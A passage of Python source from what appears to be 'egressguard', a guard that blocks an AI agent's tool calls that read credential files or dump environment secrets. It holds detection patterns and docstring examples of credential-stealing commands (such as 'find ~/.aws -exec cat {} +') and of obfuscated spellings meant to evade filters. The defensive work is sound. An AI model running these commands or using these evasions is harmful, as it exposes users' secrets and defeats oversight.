            if not word.startswith("-") and before not in _LOGIN_VALUED
        ]
        if len(operands) != 1:
            return False
        registry = re.sub(r"(?i)^https?://", "", operands[0]).split("/", 1)[0]
        return self.belongs(f"$({found[1].lower()})", (registry,), "", header=True)


# Words of a tool's name that say its text is code of a language other than a POSIX shell's, and fields
# that hold such code: a shell's reading of it says nothing of what it runs (Lua's ``ls '/k'`` calls a
# function ``ls``, PowerShell's ``sal ls gc`` makes ``ls`` print a file).
_LANGUAGES = frozenset(
    {"python", "python3", "py", "ipython", "node", "nodejs", "js", "javascript", "ts", "typescript", "deno",
     "bun", "ruby", "rb", "perl", "pl", "php", "lua", "tcl", "r", "julia", "powershell", "pwsh", "ps",
     "ps1", "cmd", "bat", "code", "interpreter", "repl", "jupyter", "notebook", "kernel", "sql",
     "applescript", "osascript", "groovy", "java", "go", "rust", "swift", "elixir", "clojure", "lisp",
     "scheme", "wsl"}
)  # fmt: skip
_CODE_FIELDS = frozenset({"code", "source", "program"})


def unread_arguments(arguments: str, name: str, tick: Callable[[], None]) -> str:
    """The arguments with the words of credential files their commands only use blanked out of each
    string (``unread_names``; a list of strings as the command line it is run as), or of the whole text
    where it is no JSON. Nothing where any of the strings may change what a command runs, or where the
    tool's name says it runs another language (``_LANGUAGES``); nothing of a field of code. ``tick`` is
    called once for each command read."""
    if set(re.split(r"[^a-z0-9]+", name.lower())) & _LANGUAGES:
        return arguments
    if not commands_certain("\n".join(_strings(_json_value(arguments)))):
        return arguments
    blank = functools.partial(unread_names, tick=tick)
    return _mapped_json_strings(arguments, blank, kept=_CODE_FIELDS, argv=True)


def _mapped_json_strings(
    arguments: str, change: Callable[[str], str], *, kept: frozenset[str] = frozenset(), argv: bool = False
) -> str:
    """The arguments with each string of their JSON changed (``_mapped_strings``), or the whole text where
    it is no JSON; as given where nothing changed."""
    try:
        value = json.loads(arguments)
    except (ValueError, RecursionError):
        return change(arguments)
    changed = _mapped_strings(value, change, kept=kept, argv=argv)
    return arguments if changed == value else json.dumps(changed, ensure_ascii=False)


def _mapped_strings(
    value: object, change: Callable[[str], str], *, kept: frozenset[str] = frozenset(), argv: bool = False
) -> object:
    """The value with each of its strings changed, but those under a key of ``kept``; with ``argv``, a list
    of strings changed as the one command line it runs."""
    if isinstance(value, str):
        return change(value)
    if isinstance(value, dict):
        return {
            key: item if str(key).lower() in kept else _mapped_strings(item, change, kept=kept, argv=argv)
            for key, item in value.items()
        }
    if isinstance(value, list):
        if argv and value and all(isinstance(item, str) for item in value):
            # An argv: its code (``["lua", "-e", ...]``) is no command of its own.
            return change(shlex.join(value))
        return [_mapped_strings(item, change, kept=kept, argv=argv) for item in value]
    return value


_SUBSTITUTION = re.compile(r"""\$\([^()\n]*\)|`[^`\n]*`|\$\{[^{}\n]*\}""")
_LOCALE_QUOTE = re.compile(r'\$(?=")')
_EMPTY_ARGUMENT = re.compile(r"""(?<=\()[ \t]*(?:''|"")[ \t]*(?=\))""")
"""An empty string a call is given (``getenv('')``, where a reading blanked what the quotes held): an
argument all the same, never the call of none (``getenv()``, the whole environment)."""


def emptied(commands: str) -> str:
    """The commands with every substitution and expansion taken for nothing, as one whose variable is
    unset or whose command prints nothing makes it (``~/.ss${x}h``, ``id_r$(true)sa``, ``${z:+x}``), and
    ``$"..."`` as the string it translates: "" where that changes nothing."""
    text = _SUBSTITUTION.sub("", _LOCALE_QUOTE.sub("", _EMPTY_ARGUMENT.sub("_", commands)))
    text = text.replace("'", "").replace('"', "")
    return "" if text == commands else text


_WHOLE_ENVIRONMENT = re.compile(
    r"(?:\bos\.environb?|\b(?:process|Bun)\.env|\bDeno\.env\.toObject\(\)|(?<![\w$.])ENV|\$_ENV|%ENV"
    r"|\bSystem\.getenv\(\s*\)|\bos\.Environ\(\)|\bgetenv\(\s*\)|\benv::vars(?:_os)?\(\))"
    # Not one variable of it (``os.environ["HOME"]``, ``process.env.PORT``, ``ENV.fetch``): the whole.
    r"(?![\w\[{]|\s*\[|\.(?!(?:copy|items|keys|values|to_h|to_hash|dup|clone)\b))"
)
_ONE_VARIABLE = re.compile(
    r"""(?:\bos\.environb?(?:\[[ \t]*|\.get\([ \t]*)|\b(?:os\.)?getenv\([ \t]*"""
    r"""|\bENV(?:\[[ \t]*|\.fetch\([ \t]*)"""
    r"""|\bGetEnvironmentVariable\([ \t]*)["'][A-Za-z_]\w*["']|\b(?:process|Bun)\.env\.[A-Za-z_]\w*"""
    r"""|\b(?:process|Bun)\.env\[[ \t]*["'`][A-Za-z_]\w*["'`]|\$\{?env:[A-Za-z_]\w*"""
    r"""|(?:(?<==)|(?<==["']))\$\{?[A-Za-z_]\w*\}?(?=["']?[ \t]*(?:[;\n]|$))"""
)
"""One variable of the environment read by its name, or a shell variable alone (``T="$GITHUB_TOKEN"``): a
name bound to it holds its value."""
_ENVIRONMENT_ALIAS = re.compile(
    # A statement opens a line, follows ; or {, opens the code an interpreter's flag gives it (php -r '$k =
    # ...', node -e '...') or PHP's opening tag.
    r"(?m)(?:^|(?<=[;{])|(?<=\s-[a-z]\s['\"])|(?<=<\?php\s))[ \t]*(?:(?:const|let|var|my|local|our)[ \t]+)?"
    r"(?:(?P<name>\$?[A-Za-z_]\w*)|\{[ \t]*\.\.\.[ \t]*(?P<rest>[A-Za-z_$][\w$]*)[ \t]*\})"
    r"[ \t]*:?=(?![=~])[ \t]*"
    rf"(?P<value>[^;\n]{{0,200}}?(?:{_WHOLE_ENVIRONMENT.pattern}|{_ONE_VARIABLE.pattern})[^;\n]{{0,200}}?)"
    r"[ \t]*(?=[;\n]|$)"
)
_MOST_ALIASES = 8


def environment_aliases(code: str, tick: Callable[[], None]) -> str:
    """The code with each name it binds to the whole environment (``e = os.environ``, ``env =
    dict(os.environ)``, ``const e = process.env``, ``const {...all} = process.env``) or to one variable of
    it (``t = os.environ["GITHUB_TOKEN"]``, ``const t = process.env.GITHUB_TOKEN``) written as what it
    binds wherever the code uses it after (``print(e)`` read as ``print(os.environ)``), so the rules that
    judge what dumps the environment or prints a secret judge what does it through a name; "" where the
    code binds none. A
    name standing for a property of its own (``spawn(cmd, {env})``) is written ``env: value``, as an
    environment handed to a child is no dump. Names bound from names bound before are followed
    ``_MOST_ALIASES`` deep. ``tick`` is called once for each binding read: the caller's budget, which it may
    stop."""
    if not _WHOLE_ENVIRONMENT.search(code) and not _ONE_VARIABLE.search(code):
        return ""
    written = code
    for _ in range(_MOST_ALIASES):
        binding = next(
            (
                found
                for found in _ENVIRONMENT_ALIAS.finditer(written)
                if _uses(written, found, tick) and not _built_with(found["value"])
            ),
            None,
        )
        if binding is None:
            break
        name = binding.group("name") or binding.group("rest")
        value = binding.group("value")
        if binding.group("rest"):
            value = "{..." + value + "}"
        after = _use_of(name).sub(functools.partial(_written_as, value), written[binding.end() :])
        # The binding itself is left out, so that the next turn finds the next one.
        written = written[: binding.start()] + after
    return "" if written == code else written


_CALLED = re.compile(r"[ \t]*(?P<made>(?:await|new)[ \t]+)?(?P<callee>[A-Za-z_$][\w$.]*)[ \t]*\(")
_KEEPING_VALUE = frozenset({"String", "Buffer", "Object", "JSON", "Array"})
"""Capitalised names of calls whose result holds the value they are given (``String(process.env.X)``)."""


def _built_with(value: str) -> bool:
    """Whether a bound value is an object a constructor or a request makes with the environment's
    variable, not the variable: ``OpenAI(api_key=os.environ[...])``, ``boto3.Session(...)``, ``await
    fetch(url, {headers: ...})``, ``new Client(...)``, whose printing prints their own. A call that turns
    the value into another form (``str(...)``, ``json.dumps(...)``, ``Object.assign({}, process.env)``)
    still holds it."""
    called = _CALLED.match(value)
    if called is None:
        return False
    last = called["callee"].rsplit(".", 1)[-1]
    return last not in _KEEPING_VALUE and (
        called["made"] is not None or last[:1].isupper() or _SENDING.match(called["callee"]) is not None
    )


def _written_as(value: str, use: re.Match[str]) -> str:
    if use["shell"] is not None:
        return value.strip("\"'")
    return f"{use[0]}: {value}" if use["own"] is not None else value


@functools.lru_cache(maxsize=64)
def _use_of(name: str) -> re.Pattern[str]:
    """Where a name is used as what it is bound to: not a part of another word, an attribute, a key, one
    variable of it by its name (``e["HOME"]``) or a name bound again; a loop over it (``for k in e:``)
    and its variables by a name that is no literal (``e[k]``) are."""
    word = re.escape(name)
    return re.compile(
        rf"(?P<own>[{{,][ \t]*){word}(?=[ \t]*[,}}])|(?<=\bin ){word}(?=[ \t]*:)"
        rf"|(?<![\w$.]){word}(?![\w$]|[ \t]*(?:\[[ \t]*[\"'`]|:?=(?!=)|:(?!:)))"
        # A shell's variable, expanded where it is used: its value written there unquoted.
        rf"|(?P<shell>\${word}(?!\w)|\$\{{{word}\}})"
    )


def _uses(code: str, binding: re.Match[str], tick: Callable[[], None]) -> bool:
    tick()
    name = binding.group("name") or binding.group("rest")
    return _use_of(name).search(code, binding.end()) is not None


_OS_MODULE = re.compile(
    r"""\b__import__\([ \t]*["'](?:os|posix|nt)["'][ \t]*\)"""
    r"""|\bimportlib\.import_module\([ \t]*["'](?:os|posix|nt)["'][ \t]*\)"""
    r"""|\bsys\.modules\[[ \t]*["'](?:os|posix|nt)["'][ \t]*\]|(?<![\w.])(?:posix|nt)(?=\.environ)"""
)
"""The ``os`` module by another spelling: imported by its name as a string, or as the module beneath it."""
_MODULE_ALIAS = re.compile(
    r"(?m)\bimport[ \t]+(?:[\w.]+(?:[ \t]+as[ \t]+\w+)?[ \t]*,[ \t]*)*os[ \t]+as[ \t]+(\w+)"
)
_FROM_OS = re.compile(r"(?m)^[ \t]*from[ \t]+(?:os|posix|nt)[ \t]+import[ \t]+\(?([^)\n;]*)\)?")
_IMPORTED = re.compile(r"\b(environb?|getenv)(?:[ \t]+as[ \t]+(\w+))?")
_ATTRIBUTE = re.compile(
    r"""\bgetattr\([ \t]*os[ \t]*,[ \t]*["'](\w+)["'][ \t]*\)|\b(?:os\.__dict__|vars\([ \t]*os[ \t]*\))"""
    r"""\[[ \t]*["'](\w+)["'][ \t]*\]"""
)


def module_names(code: str) -> str:
    """The code with the ``os`` module and its environment spelled as ``os.environ`` wherever it is spelled
    otherwise: through an alias (``import os as o``), a name imported from it (``from os import environ``,
    ``*``), the module by its name as a string (``__import__("os")``) or beneath it (``posix``), and an
    attribute by its name (``getattr(os, "environ")``); "" where it spells none so."""
    written = _OS_MODULE.sub("os", code)
    for alias in dict.fromkeys(_MODULE_ALIAS.findall(written)):
        if alias != "os":
            written = re.sub(rf"(?<![\w.]){re.escape(alias)}(?=\.)", "os", written)
    for imported in list(_FROM_OS.finditer(written))[::-1]:
        names = (
            {found[2] or found[1]: found[1] for found in _IMPORTED.finditer(imported[1])}
            if imported[1].strip() != "*"
            else {"environ": "environ", "environb": "environb", "getenv": "getenv"}
        )
        # The import itself is left out: the names it binds are what is read.
        after = written[imported.end() :]
        for name, original in names.items():
            after = re.sub(rf"(?<![\w.]){re.escape(name)}(?!\w)", f"os.{original}", after)
        written = written[: imported.start()] + after
    written = _ATTRIBUTE.sub(lambda found: f"os.{found[1] or found[2]}", written)
    return "" if written == code else written


_INDIRECT_NAME = re.compile(r"(?:^|(?<=[\s;&|(]))([A-Za-z_]\w*)=[\"']?([A-Za-z_]\w*)[\"']?(?=[\s;&|)]|$)")
_FOR_NAMES = re.compile(r"\bfor[ \t]+([A-Za-z_]\w*)[ \t]+in[ \t]+([\w \t\"']{1,400}?)[ \t]*[;\n]")


def indirections(commands: str) -> str:
    """The commands with each ``${!n}`` written as the variable whose name ``n`` holds, once for each name a
    word of the text sets it to (``n=GITHUB_TOKEN``, ``for n in GITHUB_TOKEN NPM_TOKEN``): the value the
    shell puts there; "" where there is none."""
    if "${!" not in commands:
        return ""
    held: dict[str, list[str]] = {}
    for name, value in _INDIRECT_NAME.findall(commands):
        held.setdefault(name, []).append(value)
    for name, values in _FOR_NAMES.findall(commands):
        held.setdefault(name, []).extend(word.strip("\"'") for word in values.split())
    written = [
        re.sub(rf"\$\{{!{re.escape(name)}\}}", f"${{{value}}}", commands)
        for name, values in held.items()
        for value in dict.fromkeys(values)
        if f"${{!{name}}}" in commands
    ]
    return "\n".join(written[:_MOST_WORDS])


_BARE_OUTPUT = re.compile(
    r"""(?im)(?:^|(?<=[;{]))[ \t]*((?:\$\{?env:[A-Za-z_]\w*\}?|\[(?:system\.)?environment\]::"""
    r"""getenvironmentvariable\([ \t]*["'][A-Za-z_]\w*["'][^)\n]{0,64}\)))[ \t]*(?=[;}\n]|$)"""
)
"""A PowerShell statement of one variable alone, whose value it writes to the output."""


def bare_outputs(code: str) -> str:
    """Each PowerShell statement that is a variable alone, written as ``Write-Output`` of it, one a line:
    what a statement's value is, it prints."""
    # ``${env:X}`` is ``$env:X`` braced, as a name with spaces needs it.
    return "\n".join(
        f"Write-Output {re.sub(r'^\$\{(env:\w+)\}$', r'$\1', found[1])}"
        for found in _BARE_OUTPUT.finditer(code)
    )


_ESCAPING_BACKTICK = re.compile(r"(?<=[^\s`])`(?=[^`\s])|`(?= )")
"""A backtick inside a word or before a space, as PowerShell escapes a character (``id`_rsa``,
``Application` Support``): a shell's substitution opens and closes around words."""


def powershell_unescaped(code: str) -> str:
    """The code with PowerShell's escaping backticks dropped; "" where it has none."""
    written = _ESCAPING_BACKTICK.sub("", code)
    return "" if written == code else written


def respellings(code: str) -> str:
    """The code as it reads once spelled as the rules read it (``module_names``, ``indirections``,
    ``bare_outputs``, ``powershell_unescaped``), one reading a line; "" where none spells it otherwise."""
    return "\n".join(
        text
        for text in (module_names(code), indirections(code), bare_outputs(code), powershell_unescaped(code))
        if text
    )


_RESPELLED = re.compile(r"//|/\.\.?(?:/|$)|%[0-9A-Fa-f]{2}")
_AUTHORITY = re.compile(r"^(?:[A-Za-z][\w+.-]*:)?//[^/]*")


def normal_paths(text: str) -> str:
    """The paths and URLs of the text spelled otherwise than the path they reach, one a line as they reach
    it: percent escapes decoded, runs of ``/`` as one, ``.`` and ``..`` folders resolved
    (``http://169.254.169.254//latest/./meta-data/...``, ``/etc//shadow``), as a server or the kernel
    reads them."""
    words = (word for word in _WORD.findall(text) if len(word) <= _LONGEST_WORD and _RESPELLED.search(word))
    normal = []
    for word in list(dict.fromkeys(words))[:_MOST_WORDS]:
        decoded = unquote(word)
        authority = _AUTHORITY.match(decoded)
        start = authority.end() if authority else 0
        path = re.sub("/{2,}", "/", decoded[start:])
        if path:
            path = posixpath.normpath(path) + ("/" if path.endswith("/") and path != "/" else "")
        normal.append(decoded[:start] + path)
    return "\n".join(normal)


_WORD = re.compile(r"""[^\s'"`;|&<>()]+""")
_GLOB = re.compile(r"[*?\[]")
# A glob of wildcards alone (``*/*`` in a media type, ``/**`` opening a doc comment) names nothing; one
# letter beside them does (``.*`` holds ``.env``).
_WILDCARDS = re.compile(r"\[[^\]]*\]|[*?/~]")
_HOME = re.compile(r"^(?:\$\{?HOME\}?|/root|/home/[^/]+|/Users/[^/]+|~[a-z_][\w.-]*)(?=/|$)")
_BRACES = re.compile(r"\{([^{}]*)\}")
_MOST_WORDS = 256
"""Words of a command judged as globs or expanded from braces: past them an argument is read as written."""
_MOST_EXPANSIONS = 64
"""Words one word's braces may expand to."""
_LONGEST_WORD = 512


def expanded_words(commands: str) -> list[str]:
    """The words the shell's brace expansion makes of the commands' words (``~/.{aws,x}/credentials``,
    ``cred{e,}ntials``, ``{a..c}``), as many as ``_MOST_EXPANSIONS`` a word and the rest as globs: what a
    rule reads besides the commands as written."""
    expanded: list[str] = []
    words = (word for word in _WORD.findall(commands) if "{" in word and len(word) <= _LONGEST_WORD)
    for word in list(dict.fromkeys(words))[:_MOST_WORDS]:
        pending: list[str] = [word]
        done: list[str] = []
        while pending and len(done) + len(pending) <= _MOST_EXPANSIONS:
            current = pending.pop()
            group = next((found for found in _BRACES.finditer(current) if _choices(found[1])), None)
            if group is None:
                done.append(current)
                continue
            pending += [
                current[: group.start()] + choice + current[group.end() :] for choice in _choices(group[1])
            ]
        # Past the bound, the braces left stand for anything they may hold: read as a glob.
        done += [_BRACES.sub("*", current) for current in pending]
        expanded += done if done != [word] else []
    return expanded


def _choices(inside: str) -> list[str]:
    if "," in inside:
        return inside.split(",")
    first, dots, last = inside.partition("..")
    if dots and len(first) == len(last) == 1 and first.isalnum() and last.isalnum() and first <= last:
        return [chr(code) for code in range(ord(first), min(ord(last), ord(first) + _MOST_EXPANSIONS) + 1)]
    return []


def globbing_commands(
    commands: str, rebound: Callable[[], bool] = lambda: False, tick: Callable[[], None] = lambda: None
) -> Iterator[str]:
    """The pieces of the commands whose globs may read what they name: each command but one of
    ``NAME_ONLY`` whose output goes nowhere (neither piped on nor substituted into another), and every one
    where ``rebound`` says an earlier call may have made its name run something else. ``tick`` is called
    once for each command read."""
    certain = commands_certain(commands)
    for piece, _, passed_on in command_pieces(commands):
        tick()
        if not certain or passed_on or command_name(piece) not in NAME_ONLY or rebound():
            yield piece


_CREDENTIAL_FOLDERS = frozenset(
    {".ssh", ".aws", ".azure", ".gnupg", ".kube", ".password-store", "keychains", "keyrings"}
)
"""Folders whose files are credentials, so that whatever finds or lists one reaches them."""
_IN_CREDENTIAL_FOLDER = re.compile(
    r"(?i)(?:^|/)(?:" + "|".join(map(re.escape, sorted(_CREDENTIAL_FOLDERS))) + r")(?:/|$)"
)
_LISTERS = frozenset({"ls", "dir", "tree", "du", "find", "fd", "fdfind", "rg", "gci", "get-childitem"})


def listed_folders(commands: str, rebound: Callable[[], bool], tick: Callable[[], None]) -> Iterator[str]:
    """A glob of what is in each credential folder (or a folder in one) a listing names whose output is
    passed on (``ls -la ~/.ssh | xargs cat``, ``find ~/.aws -type f | head``) or that runs a reader on
    what it finds (``find ~/.aws -exec cat {} +``), or any listing where ``rebound`` says its name may
    run something else: the names it finds reach what reads them.
    ``tick`` is called once for each command read."""
    for piece, _, passed_on in command_pieces(commands):
        tick()
        words = _WORD.findall(piece)
        if not words or posixpath.basename(words[0]).lower() not in _LISTERS:
            continue
        if not (passed_on or _runs_on_found(words) or rebound()):
            continue
        yield from (
            word.rstrip("/") + "/**" for word in words[1:_MOST_WORDS] if _IN_CREDENTIAL_FOLDER.search(word)
        )


def folder_rules(folders: Iterable[str], rules: Iterable[Rule]) -> Iterator[Rule]:
    """The rules one of whose ``files`` is in one of the folders (or is one of them) that a command
    reaches whole (``credential_reach.reached_folders``): a folder from the root or the home folder
    reaches what is under it (``~`` every credential of the user's), any other only where it is a
    credential folder (``.ssh``, ``keyrings``), as a project's own ``kubernetes/`` holds none."""
    globs = {
        _HOME.sub("~", folder).rstrip("/") + "/**"
        for folder in list(dict.fromkeys(folders))[:_MOST_WORDS]
        if len(folder) <= _LONGEST_WORD
        and (folder.startswith(("/", "~", "$HOME", "${HOME}")) or _IN_CREDENTIAL_FOLDER.search(folder))
    }
    if not globs:
        return
    for rule in rules:
        if any(_names(glob, path) for path in rule.files for glob in globs):
            yield rule


_RUNS_ON_FOUND = frozenset({"-exec", "-execdir", "-ok", "-okdir", "-x", "--exec", "-X", "--exec-batch"})
"""``find``'s and ``fd``'s options that run a command on each file found."""


def _runs_on_found(words: list[str]) -> bool:
    """Whether a search runs a command on the files it finds that reads more than their names
    (``find ~/.aws -type f -exec cat {} +``, where ``-exec chmod 600 {} +`` does not)."""
    return any(
        option in _RUNS_ON_FOUND and posixpath.basename(command) not in NAME_ONLY
        for option, command in itertools.pairwise(words)
    )


def globbed_rules(commands: str, rules: Iterable[Rule]) -> Iterator[Rule]:
    """The rules one of whose ``files`` a glob in the commands can name (``cat ~/.aws/*``, ``.e*``): a glob
    from the root or the home folder against the whole path, any other against its last parts."""
    words = (word for word in _WORD.findall(commands) if _GLOB.search(word) and len(word) <= _LONGEST_WORD)
    globs = {
        glob
        for glob in (_HOME.sub("~", word) for word in list(dict.fromkeys(words))[:_MOST_WORDS])
        if _WILDCARDS.sub("", glob)
    }
    if not globs:
        return
    for rule in rules:
        if any(_names(glob, path) for path in rule.files for glob in globs):
            yield rule


_SEARCHED_NAME = re.compile(
    r"""(?i)(?:(?<!\S)(?:-i?name|-filter|-include|--?i?glob|-g)"""
    r"""|(?P<anywhere>\b(?:[pm]?locate|fd|fdfind))(?:[ \t]+(?:-t|--type)[ \t=]+\w+|[ \t]+-\S*)*)"""
    r"""[ \t=]+["']?(?P<name>[^\s"';&|<>()]{1,256})"""
)
"""A file's name searched for wherever it is: ``find -name``/``-iname``, ``mdfind -name``, a glob of
``rg``/``fd`` (``-g``), PowerShell's ``-Filter``/``-Include``, the pattern ``locate`` or ``fd`` looks for
``anywhere`` in a name (past their options, and the kind of file ``fd -t`` looks for)."""
_GREPPED_LISTING = re.compile(
    r"""(?i)\b(?:ls|find|tree|dir|gci|get-childitem|fd|fdfind|[pm]?locate|du|rg[ \t]+--files)\b"""
    r"""[^\n;&|]{0,256}\|[ \t]*"""
    r"""(?:[ef]?grep|rg|findstr|select-string|sls)(?:[ \t]+-\S*)*[ \t]+["']?(?P<name>[\w.-]{1,256})"""
)
"""A listing of files' names piped into a search for one by a part of it: ``ls -R ~ | grep logins.json``."""
_SHARED_NAMES = frozenset(
    {"config", "config.json", "credentials", "hosts.yml", "hosts.json", "apps.json", "auth.json", "token",
     "cookies", "login data", "web data", "local state", "admin.conf"}
)  # fmt: skip
"""Credential files' names that as many other files bear: only their folder tells them apart."""
_EVERYDAY_NAMES = ("package.json", "index.js", "readme.md", "main.py", "data.db", "config.yaml", "makefile",
                   "notes.txt", "app.log", "test.sqlite", "schema.sql", "styles.css", "key.txt")  # fmt: skip
"""Files in any tree: a searched glob that names one of them is too wide to be a credential's (``*.json``)."""


_BARE_WORD = re.compile(r"\*?[a-z0-9]+\*?")
"""A glob of one word and wildcards (``*keychain*``): as many source files bear the word (``Keychain.swift``)
as credential stores, so it is a search for one only where it searches the home folder or the root
themselves, not a tree under them (``find ~/src/app``)."""
_EVERYWHERE = re.compile(
    r"""(?i)(?:^|[\s"'=])(?:~|/|/root|/(?:home|Users)/[^/\s"']+|\$\{?HOME\}?|%USERPROFILE%|\$env:USERPROFILE|[a-z]:\\)[/\\]?(?=$|[\s"';&|)])"""
    r"""|\b[pm]?locate\b"""
)


def _searched_everywhere(commands: str, match: re.Match[str]) -> bool:
    """Whether the command of a search by name looks from the home folder or the root (before its name,
    as ``find`` is given it, or after, as ``fd`` is), or in every file's name the machine knows
    (``locate``)."""
    start = max(
        0, match.start() - _LONGEST_WORD, *(commands.rfind(end, 0, match.start()) + 1 for end in "\n;&|")
    )
    after = _COMMAND_END.search(commands, match.end(), match.end() + _LONGEST_WORD)
    end = after.start() if after is not None else min(len(commands), match.end() + _LONGEST_WORD)
    return _EVERYWHERE.search(commands, start, end) is not None


_COMMAND_END = re.compile(r"[\n;&|]")


def searched_rules(commands: str, rules: Iterable[Rule], listings: str = "") -> Iterator[Rule]:
    """The rules one of whose ``files`` a search by name in the commands finds wherever it is (``find ~
    -name logins.json``, ``find / -iname 'key*.db'``, ``locate .git-credentials``), or in ``listings``, a
    listing of names piped into grep (``ls -R ~ | grep logins.json``): by its last part, where that part
    is the credential's own (not ``config.json``) and a glob searched for names no everyday file."""
    searched = set()
    matches = [(match, commands) for match in _SEARCHED_NAME.finditer(commands)] + [
        (match, listings) for match in _GREPPED_LISTING.finditer(listings)
    ]
    for match, text in matches[:_MOST_WORDS]:
        # Compared without case: a search that minds it (``-name``) finds fewer, never other files.
        name = match["name"].lower()
        # grep, fd and locate find their pattern anywhere in a name.
        name = f"*{name}*" if match.re is _GREPPED_LISTING or match["anywhere"] else name
        wide = _GLOB.search(name) is not None and (
            any(glob_matches(everyday, name) for everyday in _EVERYDAY_NAMES)
            or (_BARE_WORD.fullmatch(name) is not None and not _searched_everywhere(text, match))
        )
        if _WILDCARDS.sub("", name) and not wide:
            searched.add(name)
    if not searched:
        return
    for rule in rules:
        lasts = {path.rsplit("/", 1)[-1].lower() for path in rule.files} - _SHARED_NAMES
        folders = {part.lower() for path in rule.files for part in path.split("/")[:-1]} & _CREDENTIAL_FOLDERS
        # A folder is searched for by its whole name (``fd -H .aws``), not by a word of it (``*ssh*``).
        if any(glob_matches(last, name) for last in lasts for name in searched) or any(
            glob_matches(folder, name) and folder in name for folder in folders for name in searched
        ):
            yield rule


def _names(glob: str, path: str) -> bool:
    globbed, parts = _collapsed(glob.rstrip("/").split("/")), tuple(path.split("/"))
    if glob.startswith("/") and parts[0] == "~":
        # A glob from the root names a home folder as its path there: ``/h*/*/.ssh/id_*``.
        return any(_parts_match(globbed, home + parts[1:]) for home in _HOMES)
    if glob.startswith(("/", "~")):
        return _parts_match(globbed, parts)
    # A relative glob names a path's last parts, wherever the command runs; a bare name only a dotfile
    # (``.e*``): ``*.json`` or ``id_*`` in any folder is no credential's.
    return any(
        (len(globbed) > 1 or parts[start].startswith(".")) and _parts_match(globbed, parts[start:])
        for start in range(len(parts))
    )


_ANY_USER = "\0"
"""A user's name in a home folder's path, which any glob of one part matches."""
_HOMES = (("", "root"), ("", "home", _ANY_USER), ("", "Users", _ANY_USER))


def _collapsed(parts: list[str]) -> tuple[str, ...]:
    """The glob's parts with ``**`` folders in a row as one: they match what one does."""
    kept: list[str] = []
    for part in parts:
        if not (part == "**" and kept and kept[-1] == "**"):
            kept.append(part)
    return tuple(kept)


@functools.lru_cache(maxsize=4096)
def _parts_match(globbed: tuple[str, ...], parts: tuple[str, ...]) -> bool:
    """As the shell expands a glob: part by part, ``*`` never across a ``/`` nor onto a leading dot,
    ``**`` (globstar, ``find``'s and ripgrep's globs) over any number of folders. Kept: each pair of tails
    is worked out once, so ``**`` folders cost no more than their count times the path's."""
    if not globbed:
        return not parts
    if globbed[0] == "**":
        return any(_parts_match(globbed[1:], parts[start:]) for start in range(len(parts) + 1))
    if not parts or (parts[0].startswith(".") and not globbed[0].startswith(".")):
        return False
    return glob_matches(parts[0], globbed[0]) and _parts_match(globbed[1:], parts[1:])


def credential_scanner(packs: Iterable[RulePack]) -> Scanner:
    return Scanner([pack for pack in packs if pack.name == PACK])


def withheld_notice(name: str, rules: Iterable[str]) -> str:
    """The assistant text that stands in for a withheld credential read."""
    return (
        f"The call to the tool `{name}` was withheld by egressguard: its arguments name credential material"
        f" ({', '.join(sorted(set(rules)))}), and this agent's policy does not let it read credentials."
    )
